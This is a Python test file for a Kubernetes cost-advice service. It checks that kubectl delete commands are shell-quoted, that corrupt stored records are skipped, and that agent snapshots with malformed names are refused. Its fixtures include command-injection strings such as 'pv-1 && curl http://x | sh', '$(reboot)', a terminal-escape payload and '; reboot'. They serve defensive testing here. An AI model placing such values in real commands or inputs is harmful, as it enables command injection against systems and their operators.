"""Advice that can always be read back, and names that never become commands."""

from __future__ import annotations

import dataclasses
import json
import shlex
from datetime import timedelta
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from plimsoll_service.domain.analysis import analyse
from plimsoll_service.domain.analysis.analysis import node_pools
from plimsoll_service.domain.analysis.commands import commands
from plimsoll_service.services import recommendations as service
from plimsoll_service.services.history import ADVISED, NEWEST, last_advice, newest
from plimsoll_service.services.instructions import pending, report, result_of
from plimsoll_service.services.kept_advice import RECOMMENDATIONS, SAVINGS
from plimsoll_service.services.recommendations import IDLE, NUMBER, next_number
from plimsoll_service.wire import snapshot as wire
from plimsoll_service.wire.advice import MOST_WORDS, InstanceRow
from plimsoll_service.wire.documents import Malformed, compress
from plimsoll_service.wire.instructions import Result
from plimsoll_service.wire.sifting import MOST_PARTS
from plimsoll_service.wire.snapshot import LoadBalancer, Volume
from tests.support.advised import OLD, AdvisedCluster, harbor
from tests.support.snapshots import GIB, wire_snapshot

HOSTILE = "pv-1 && curl http://x | sh"


def balancers(count: int) -> tuple[LoadBalancer, ...]:
    """Return idle Ingresses with the longest names that share one load balancer."""
    return tuple(
        LoadBalancer(
            uid=f"lb-{number}",
            kind="Ingress",
            namespace="n" * 63,
            name=f"{number:03d}{'a' * 250}",
            address="alb.example.com",
            created_at=OLD,
        )
        for number in range(count)
    )


def test_advice_about_a_load_balancer_that_many_ingresses_share_is_read_back():
    cluster = AdvisedCluster()
    seen = wire_snapshot(load_balancers=balancers(67))
    cluster.advise(seen)
    cluster.advise(seen, minutes=25 * 60)
    found = cluster.all()[f"idle-load-balancer 000{'a' * 250}"]
    *lines, last = found.patch.splitlines()
    assert last == f"# and {67 - len(lines)} more"
    assert [shlex.split(line)[:4] for line in lines] == [
        ["kubectl", "delete", "ingress", "--namespace"]
    ] * len(lines)
    assert cluster.accept(f"{found.kind} {found.about.name}").state == "accepted"


def test_commands_are_one_a_line_and_each_word_is_quoted():
    assert commands([("kubectl", "delete", "pv", HOSTILE), ("ls",)]) == (
        f"kubectl delete pv '{HOSTILE}'\nls"
    )
    many = commands([("x" * 100,)] * 100).splitlines()
    assert many[-1] == f"# and {100 - len(many) + 1} more"
    assert len("\n".join(many)) <= MOST_WORDS


def test_a_patch_for_more_instance_types_than_it_holds_is_whole_json():
    rows = [
        InstanceRow(type=f"x{number}{'a' * 50}.large", capacity="spot", count=1, monthly=1.0)
        for number in range(200)
    ]
    patch, left_out = node_pools(rows)
    assert len(patch) <= MOST_WORDS
    assert 0 < left_out < 200
    (pool,) = json.loads(patch)["nodePools"]
    assert len(pool[1]["values"]) == 200 - left_out


def test_an_instruction_about_pods_of_the_longest_names_is_read_by_its_executor():
    plain = harbor()
    pods = tuple(
        replace(pod, namespace="n" * 63, name=f"{'p' * 250}{number}")
        for number, pod in enumerate(plain.pods)
    )
    workloads = tuple(replace(each, namespace="n" * 63) for each in plain.workloads)
    cluster, seen = AdvisedCluster(), replace(plain, pods=pods, workloads=workloads)
    cluster.advise(seen)
    cluster.accept("consolidate-node a")
    cluster.advise(seen)
    (instruction,) = cluster.waiting()
    assert [len(step.target) for step in instruction.plan.actions] == [6, 256]


SEEN = harbor(load_balancers=balancers(1))


def a_cluster() -> AdvisedCluster:
    """Return a cluster with advice, one instruction on its way, and another accepted."""
    cluster = AdvisedCluster()
    cluster.advise(SEEN)
    cluster.accept("consolidate-node a")
    cluster.advise(SEEN)
    return cluster


def spoil(cluster: AdvisedCluster, key: str) -> None:
    found = cluster.data.get("harbor", key)
    assert found is not None
    later = cluster.time + timedelta(days=400)
    cluster.data.put("harbor", key, b'{"a":', version=found.version, expires=later)


def body(cluster: AdvisedCluster, key: str) -> bytes:
    found = cluster.data.get("harbor", key)
    assert found is not None
    return found.body


@pytest.mark.parametrize("key", [RECOMMENDATIONS, IDLE, SAVINGS])
def test_a_row_that_does_not_decode_counts_as_absent_and_is_replaced(key):
    cluster = a_cluster()
    spoil(cluster, key)
    cluster.advise(SEEN)
    assert msgspec.json.decode(body(cluster, key))
    told = {fault[:2] for fault in cluster.data.faults}
    assert told == {("harbor", key)}


def test_a_number_that_does_not_decode_is_followed_by_the_time():
    cluster = a_cluster()
    spoil(cluster, NUMBER)
    assert next_number(cluster.data, "harbor", cluster.time) == int(cluster.time.timestamp())
    assert last_advice(cluster.data, "harbor") == (None, 0)
    later = cluster.time + timedelta(days=1)
    cluster.data.put("harbor", ADVISED, b'{"at":', expires=later)
    assert last_advice(cluster.data, "harbor") == (None, 1)
    assert [key for _, key, _ in cluster.data.faults] == [NUMBER, ADVISED]


def test_a_recommendation_that_cannot_be_read_back_costs_itself_and_is_told(monkeypatch):
    def advised_wrongly(*given: Any, **named: Any) -> Any:
        found = analyse(*given, **named)
        first, *others = found.recommendations
        broken = replace(first, id="r-broken", patch="x" * (MOST_WORDS + 1))
        return dataclasses.replace(found, recommendations=(broken, first, *others))

    cluster = AdvisedCluster()
    monkeypatch.setattr(service, "analyse", advised_wrongly)
    cluster.advise(SEEN)
    assert "consolidate-node a" in cluster.all()
    assert "r-broken" not in {each.id for each in cluster.all().values()}
    assert [key for _, key, _ in cluster.data.faults] == ["r-broken"]


def test_results_and_instructions_that_do_not_decode_are_stepped_over():
    cluster = a_cluster()
    (signed,) = pending(cluster.data, "harbor").instructions
    assert signed.payload
    number = cluster.all()["consolidate-node a"].instruction
    spoil(cluster, f"waiting#{number:016d}")
    spoil(cluster, f"instruction#{number:016d}")
    assert pending(cluster.data, "harbor").instructions == ()
    assert result_of(cluster.data, "harbor", number) is None
    result = Result(id="r-1", number=number, outcome="done", reason="", at=cluster.time)
    report(cluster.data, "harbor", [result], cluster.time)
    keys = {key for _, key, _ in cluster.data.faults}
    assert keys == {f"waiting#{number:016d}", f"instruction#{number:016d}"}


def test_a_snapshot_that_does_not_decode_counts_as_absent():
    cluster = a_cluster()
    cluster.data._snapshots["harbor", SEEN.epoch, cluster.sequence] = b"no gzip"
    assert newest(cluster.data, "harbor") is None
    assert len(cluster.data.faults) == 1
    spoil(cluster, NEWEST)
    assert newest(cluster.data, "harbor") is None
    assert len(cluster.data.faults) == 2


def volume(name: str) -> Volume:
    return Volume(
        uid=f"uid-{len(name)}",
        name=name,
        phase="Available",
        capacity=100 * GIB,
        storage_class="gp3",
        type="gp3",
        created_at=OLD,
    )


NAMES = (
    HOSTILE,
    "$(reboot)",
    "-rf",
    "a\x1b]52;c;cm0gLXJm\x07",
    "a\nb",
    "<script>",
    "a b",
    "Ä",
    "a" * 254,
)


def sent(seen: Any) -> bytes:
    """Return a snapshot as a hostile agent sends it: past our encoder."""
    return msgspec.json.encode(seen)


@pytest.mark.parametrize("name", NAMES)
def test_a_bad_name_costs_its_object_and_not_the_snapshot(name):
    seen = wire_snapshot(volumes=(volume("pv-1"), volume(name)))
    found = wire.parse(sent(seen))
    assert [each.name for each in found.volumes] == ["pv-1"]
    assert (found.left_out, found.nodes) == (1, seen.nodes)


@pytest.mark.parametrize(
    ("kind", "changes"),
    [
        ("nodes", {"name": HOSTILE}),
        ("nodes", {"uid": HOSTILE}),
        ("nodes", {"provider_id": "aws:///a/i-1; reboot"}),
        ("nodes", {"labels": {"node.kubernetes.io/instance-type": "<b>"}}),
        ("pods", {"namespace": "--all"}),
        ("pods", {"node": HOSTILE}),
        ("pods", {"gpus": {"nvidia.com/gpu;": 1}}),
        ("workloads", {"kind": "Deployment;"}),
        ("workloads", {"template": (wire.Container(name="Main"),)}),
    ],
)
def test_each_name_is_held_to_the_pattern_of_its_field(kind, changes):
    first, *others = getattr(wire_snapshot(), kind)
    seen = wire_snapshot(**{kind: (replace(first, **changes), *others)})
    found = wire.parse(sent(seen))
    assert getattr(found, kind) == tuple(others)
    assert found.left_out == 1


def test_what_is_wrong_beside_names_is_still_refused_and_so_is_a_flood_of_parts():
    document = json.loads(sent(wire_snapshot(volumes=(volume(HOSTILE),))))
    with pytest.raises(Malformed, match="allocatable"):
        wire.parse(json.dumps(document | {"nodes": [{"uid": "a", "name": "a"}]}).encode())
    flood = json.dumps(document | {"deleted": [0] * (MOST_PARTS + 2)}).encode()
    with pytest.raises(Malformed):
        wire.parse(flood)


@pytest.mark.parametrize("broken", ['"budgets":5}', '"budgets":[', ""])
def test_a_snapshot_with_a_bad_name_that_is_broken_elsewhere_too_is_refused(broken):
    document = sent(wire_snapshot(volumes=(volume(HOSTILE),)))
    with pytest.raises(Malformed):
        wire.parse(document.removesuffix(b"}") + f",{broken}".encode())


def test_no_hostile_name_of_a_snapshot_reaches_what_is_advised():
    cluster = AdvisedCluster()
    seen = wire_snapshot(volumes=(volume("pv-1"),))
    cluster.push(seen)
    body = compress(sent(wire_snapshot(sequence=1, volumes=(volume(HOSTILE), volume("pv-1")))))
    cluster.data._snapshots["harbor", seen.epoch, 1] = body
    cluster.advise()
    told = cluster.all()
    assert "orphan-volume pv-1" in told
    assert told["orphan-volume pv-1"].patch == "kubectl delete persistentvolume pv-1"
    assert HOSTILE not in repr(told)
